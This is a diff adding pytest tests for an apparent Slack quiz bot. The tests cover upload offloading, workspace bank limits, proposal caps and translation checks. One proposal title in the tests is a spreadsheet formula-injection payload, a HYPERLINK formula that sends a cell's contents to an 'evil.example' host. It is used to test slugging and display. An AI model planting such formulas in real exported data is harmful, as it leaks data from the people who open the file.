@@ -12,8 +12,11 @@ from pathlib import Path
 
 import pytest
 
+from bot.content import limits
 from bot.content.banks import Catalog
 from bot.domain.identities import PlayerRef, ScopeRef
+from bot.operations import metrics
+from bot.operations.offload import INLINE_SIZE
 from bot.services.engine import Engine
 from bot.services.requests import (
     Context,
@@ -220,3 +223,110 @@ async def test_propose_approve_play_and_daily_draw(
     await core.scheduler.tick()
     [daily] = publisher.of(DailyPostView)
     assert daily.view.prompt == "Which signal pages the on-call engineer first?"  # type: ignore[union-attr]
+
+
+def _csv(rows: int) -> bytes:
+    """A legitimate CSV bank of ``rows`` questions (beyond what is checked on the loop)."""
+    lines = ["id,prompt,choice_1,choice_2,answer,explanation,references"]
+    lines += [
+        f"q{n},How many bytes does fp16 weight {n} take?,2,4,1,Half precision is 16 bits.,"
+        "https://en.wikipedia.org/wiki/Half-precision_floating-point_format"
+        for n in range(rows)
+    ]
+    return ("\n".join(lines) + "\n").encode()
+
+
+async def test_a_large_file_is_checked_in_a_child_process_within_a_time_limit(
+    engine: tuple[Engine, RecordingPublisher],
+) -> None:
+    core, _ = engine
+    data = _csv(400)
+    assert len(data) > INLINE_SIZE  # so it is checked off the event loop
+    before = metrics.sample("quizbot_offloaded_jobs_total", outcome="done")
+    saved = await text(core, UploadBank("fp16.csv", data), BOSS)
+    assert saved == (
+        "Saved the bank “fp16” (fp16): 400 questions. It is in this workspace's topics now."
+    )
+    assert metrics.sample("quizbot_offloaded_jobs_total", outcome="done") >= before + 1
+    started = (await core.handle(StartQuiz("fp16"), ANA)).view
+    assert isinstance(started, QuestionView)
+    core.offload.seconds = 0.001  # no child starts, let alone checks a file, this fast
+    slow = await text(core, UploadBank("fp16-again.csv", data), BOSS)
+    assert slow == "Checking this file took longer than 0.001 s: split it into smaller banks."
+    assert [b.id for b in await core.library.own_banks("slack", "T1")] == ["fp16"]
+
+
+async def test_a_workspace_keeps_a_bounded_number_and_size_of_banks(
+    engine: tuple[Engine, RecordingPublisher], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    core, _ = engine
+    monkeypatch.setattr(limits, "WORKSPACE_BANKS", 2)
+    for bank_id in ("one", "two"):
+        assert (
+            await text(core, UploadBank(f"{bank_id}.yaml", _bank_yaml(bank_id)), BOSS)
+        ).startswith("Saved the bank")
+    third = await text(core, UploadBank("three.yaml", _bank_yaml("three")), BOSS)
+    assert third == (
+        "This workspace has 2 banks of its own, the most it can keep: remove one first"
+        " (/quiz bank remove)."
+    )
+    # Replacing a bank it has is not a new one.
+    again = await text(core, UploadBank("two.yaml", _bank_yaml("two")), BOSS)
+    assert again.startswith("Saved the bank")
+    monkeypatch.setattr(limits, "WORKSPACE_CHARACTERS", 300)
+    bigger = await text(core, UploadBank("two.yaml", _bank_yaml("two") * 1), BOSS)
+    assert bigger == (
+        "This workspace's banks would hold more than 0 MB of text together: remove a bank"
+        " first (/quiz bank remove)."
+    )
+    assert [b.id for b in await core.library.own_banks("slack", "T1")] == ["one", "two"]
+
+
+def _proposal(prompt: str, topic: str = "on-call") -> ProposeQuestion:
+    return ProposeQuestion(topic, prompt, "Right\nWrong", "Because.", "https://example.org/a")
+
+
+async def test_pending_proposals_are_capped_and_the_list_shows_the_title_as_typed(
+    engine: tuple[Engine, RecordingPublisher], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    core, _ = engine
+    monkeypatch.setattr(limits, "PENDING_PER_MEMBER", 2)
+    monkeypatch.setattr(limits, "PENDING_PER_WORKSPACE", 3)
+    title = '=HYPERLINK("https://evil.example/?"&A2,"Open") On call'
+    sent = [await text(core, _proposal(f"Which {n}?", title), ANA) for n in range(3)]
+    assert sent[2] == (
+        "You have 2 questions waiting for review, the most one member can: wait until an"
+        " admin decides some of them."
+    )
+    bob = Context(PLAYERS[1], CHANNEL, "en-US")
+    assert (await text(core, _proposal("Which 3?"), bob)).startswith("Thanks!")
+    carol = Context(PLAYERS[2], CHANNEL, "en-US")
+    assert await text(core, _proposal("Which 4?"), carol) == (
+        "3 proposed questions are waiting for review, the most a workspace can hold: ask an"
+        " admin to decide some (/quiz proposals)."
+    )
+    page = (await core.handle(ShowProposals(), BOSS)).view
+    assert isinstance(page, ProposalList)
+    assert [(i.topic, i.title) for i in page.items] == [
+        ("hyperlink-https-evil-example-a2-open-on", title),
+        ("hyperlink-https-evil-example-a2-open-on", title),
+        ("on-call", "on-call"),
+    ]
+
+
+async def test_a_proposal_joining_a_bank_of_several_languages_needs_them_all(
+    engine: tuple[Engine, RecordingPublisher],
+) -> None:
+    core, _ = engine
+    both = _bank_yaml("team").replace(b"locales: [en]", b"locales: [en, hi]")
+    both = both.replace(b"{en: Ours}", b"{en: Ours, hi: Ours}")
+    for text_ in (b"'Which one?'", b"A", b"B", b"Because."):
+        both = both.replace(b"{en: " + text_ + b"}", b"{en: " + text_ + b", hi: " + text_ + b"}")
+    assert (await text(core, UploadBank("team.yaml", both), BOSS)).startswith("Saved the bank")
+    refused = await text(core, _proposal("Which?", "team"), ANA)
+    assert refused.splitlines() == [
+        "The question was not sent: 3 problem(s):",
+        "prompt is missing the translation(s): hi",
+        "choice 1 is missing the translation(s): hi",
+        "explanation is missing the translation(s): hi",
+    ]
